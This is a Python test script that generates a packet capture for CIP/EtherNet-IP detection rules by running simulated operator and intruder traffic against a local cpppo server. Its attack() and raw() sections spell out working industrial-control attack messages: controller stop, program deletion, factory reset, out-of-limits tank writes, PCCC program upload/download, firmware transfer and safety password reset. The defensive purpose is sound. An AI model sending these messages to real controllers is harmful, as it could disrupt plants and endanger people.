#!/usr/bin/env python3
"""Makes `rules/cip/captures/attack.pcap`: pycomm3 against the server of cpppo.

    python3 tests/tools/capture_cip.py FILE.pcap

Client and server run on loopback addresses, and `dumpcap` listens on `lo`, so it
needs the right to capture. What the stack does not send (PCCC that changes the mode,
transfers of files, paths that end within a segment, discovery as scanners do it, implicit
data) goes as raw bytes to the same server, which refuses much of it: what matters is who
asks. The capture is made once and kept; the script says how, and makes another of the same
shape.

    127.0.10.5   controller, cpppo server
    127.0.20.5   operator station: reads, and writes within limits
    127.0.30.9   intruder in the office

Made with cpppo 5.2.5, pycomm3 1.2.16 and Wireshark 4.0.
"""

import socket
import struct
import subprocess
import sys
import time

from pycomm3 import CIPDriver, Services
from pycomm3.socket_ import Socket

SERVER, OPERATOR, INTRUDER = "127.0.10.5", "127.0.20.5", "127.0.30.9"
PORT = 44818
TAGS = ["Tank_Level=REAL[4]", "Pump_Run=DINT[2]", "Recipe=INT[10]"]


def server() -> subprocess.Popen:
    command = [sys.executable, "-m", "cpppo.server.enip", "--no-print", "-a"]
    command += [f"{SERVER}:{PORT}", "--udp", *TAGS]
    return subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def client(source: str) -> CIPDriver:
    """pycomm3's driver, from an address of our choice."""
    driver = CIPDriver(SERVER)
    driver._sock = Socket(2.0)
    driver._sock.sock.bind((source, 0))
    driver.open()
    return driver


def tag(name: str) -> bytes:
    """A path by name."""
    text = name.encode()
    return bytes([0x91, len(text)]) + text + b"\0" * (len(text) % 2)


def words(path: bytes) -> bytes:
    return bytes([len(path) // 2]) + path


def send_unit(driver: CIPDriver, service: int, path: bytes, data: bytes) -> None:
    """A service whose path has no class, which generic_message cannot spell."""
    message = bytes([service]) + words(path) + data
    exchange(driver._sock.sock, rr(driver._session, message))


def rr(session: int, cip: bytes) -> bytes:
    """An unconnected message in a SendRRData."""
    items = struct.pack("<HHHHH", 2, 0, 0, 0xB2, len(cip)) + cip
    return encapsulated(0x6F, session, struct.pack("<IH", 0, 5) + items)


def encapsulated(command: int, session: int, data: bytes) -> bytes:
    head = struct.pack("<HHII8sI", command, len(data), session, 0, b"raw-----", 0)
    return head + data


def exchange(sock: socket.socket, message: bytes) -> bytes:
    sock.settimeout(0.5)
    try:
        sock.sendall(message)
        return sock.recv(4096)
    except (TimeoutError, ConnectionError):
        return b""


def operate() -> None:
    """What happens all day."""
    driver = client(OPERATOR)
    driver.generic_message(Services.get_attributes_all, 1, 1, connected=False,
                           unconnected_send=False, route_path=False)
    send_unit(driver, 0x4C, tag("Tank_Level"), struct.pack("<H", 4))
    send_unit(driver, 0x4D, tag("Tank_Level"), struct.pack("<HHf", 0xCA, 1, 42.5))
    send_unit(driver, 0x52, tag("Recipe"), struct.pack("<HI", 10, 0))
    driver.close()


def attack() -> None:
    """What the stack can send. A connection each: the server closes one on which it
    is asked for what it does not have."""

    def ask(service, class_code, instance, attribute=b"", data=b""):
        driver = client(INTRUDER)
        driver.generic_message(service, class_code, instance, attribute, data,
                               connected=False, unconnected_send=False, route_path=False)
        close(driver)

    def send(service, path, data):
        driver = client(INTRUDER)
        send_unit(driver, service, path, data)
        close(driver)

    driver = client(INTRUDER)
    driver._list_identity()
    driver.close()
    # What the device is; its address and its name changed.
    ask(Services.get_attribute_single, 1, 1, 7)
    ask(Services.set_attribute_single, 0xF5, 1, 6, struct.pack("<H", 4) + b"pwnd")
    ask(Services.set_attribute_single, 0xF5, 1, 5, bytes([9, 30, 0, 127]) + bytes(18))
    # Tags, one far beyond its limits, and their list.
    send(0x4D, tag("Tank_Level"), struct.pack("<HHf", 0xCA, 1, 950.0))
    send(0x4D, tag("Pump_Run"), struct.pack("<HHi", 0xC4, 1, 0))
    send(0x4E, tag("Pump_Run"), struct.pack("<HII", 4, 0, 0xFFFFFFFE))
    send(0x55, bytes([0x20, 0x6B, 0x24, 0]), struct.pack("<HHH", 2, 1, 2))
    # Several services in one message.
    reads = [bytes([0x4C]) + words(tag(name)) + b"\1\0" for name in ("Tank_Level", "Recipe")]
    offsets = struct.pack("<HHH", 2, 6, 6 + len(reads[0]))
    send(0x0A, bytes([0x20, 2, 0x24, 1]), offsets + b"".join(reads))
    # Forces, the mode of the controller, a part of its program, its clock.
    ask(0x4D, 0x69, 0)
    ask(Services.stop, 0x8E, 1)
    ask(Services.start, 0x8E, 1)
    ask(Services.delete, 0x68, 3)
    ask(Services.set_attribute_list, 0x8B, 1, data=struct.pack("<HHQ", 1, 6, 0))
    # Resets: power cycle, and factory default.
    ask(Services.reset, 1, 1, data=b"\0")
    ask(Services.reset, 1, 1, data=b"\1")
    # A connection.
    driver = client(INTRUDER)
    try:
        driver._forward_open()
    except Exception:  # The device refuses, or closes.
        pass
    close(driver)


def close(driver: CIPDriver) -> None:
    try:
        driver.close()
    except Exception:  # The server was first.
        pass


PCCC = struct.pack("<BHI", 7, 1, 0x12345678)
FILE = bytes([0x20, 0x37, 0x24, 0x01])

RAW = [
    # PCCC: mode to program, upload of the program, download, clear, write to N7:0.
    bytes([0x4B, 2, 0x20, 0x67, 0x24, 1]) + PCCC + bytes.fromhex("0F 00 0100 80 01"),
    bytes([0x4B, 2, 0x20, 0x67, 0x24, 1]) + PCCC + bytes.fromhex("0F 00 0200 53"),
    bytes([0x4B, 2, 0x20, 0x67, 0x24, 1]) + PCCC + bytes.fromhex("0F 00 0300 50 00"),
    bytes([0x4B, 2, 0x20, 0x67, 0x24, 1]) + PCCC + bytes.fromhex("0F 00 0400 57"),
    bytes([0x4B, 2, 0x20, 0x67, 0x24, 1]) + PCCC
    + bytes.fromhex("0F 00 0500 AA 02 07 89 00 00 FFFF"),
    # A file into the device: begun, its only packet, and one out of it.
    bytes([0x4C, 2]) + FILE + bytes.fromhex("00 10 0000 01 00"),
    bytes([0x50, 2]) + FILE + bytes.fromhex("00 04") + b"firmware" + bytes.fromhex("DAFE"),
    bytes([0x4B, 2]) + FILE + bytes.fromhex("FF"),
    # Sent on over the backplane to slot 3, and from there to another network: stop.
    bytes([0x52, 2, 0x20, 0x06, 0x24, 1, 0x07, 0xF9, 6, 0])
    + bytes([0x07, 2, 0x20, 0x8E, 0x24, 1, 6, 0, 1, 3, 0x12, 8]) + b"10.9.9.7",
    # A safety supervisor's password, and its reset.
    bytes([0x51, 2, 0x20, 0x39, 0x24, 1]) + bytes(32),
    bytes([0x54, 2, 0x20, 0x39, 0x24, 1, 1]),
    # A path longer than the message, and one that ends within a segment.
    bytes([0x01, 0x40, 0x20, 0x01]),
    bytes([0x01, 0x02, 0x20, 0x01, 0x25, 0x00]),
]


def raw() -> None:
    for message in RAW:
        # A connection each: the server closes some of them.
        with socket.create_connection((SERVER, PORT), 1, (INTRUDER, 0)) as sock:
            reply = exchange(sock, encapsulated(0x65, 0, struct.pack("<HH", 1, 0)))
            session = struct.unpack_from("<I", reply, 4)[0] if len(reply) >= 8 else 1
            exchange(sock, rr(session, message))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((INTRUDER, 0))
        sock.connect((SERVER, PORT))
        exchange(sock, encapsulated(0x63, 0, b""))
    # Implicit data that nobody asked for.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((INTRUDER, 2222))
        for number in range(3):
            items = struct.pack("<HHHIIHH", 2, 0x8002, 8, 0x11223344, number, 0xB1, 6)
            sock.sendto(items + struct.pack("<HI", number, 0), (SERVER, 2222))


def main() -> None:
    [path] = sys.argv[1:]
    ports = f"port {PORT} or udp port 2222"
    listen = ["dumpcap", "-q", "-P", "-i", "lo", "-f", ports, "-w", path]
    serving = server()
    capture = subprocess.Popen(listen, stderr=subprocess.DEVNULL)
    time.sleep(6)
    try:
        operate()
        attack()
        raw()
        time.sleep(1.5)
    finally:
        capture.terminate()
        capture.wait()
        serving.terminate()
        serving.wait()


if __name__ == "__main__":
    main()
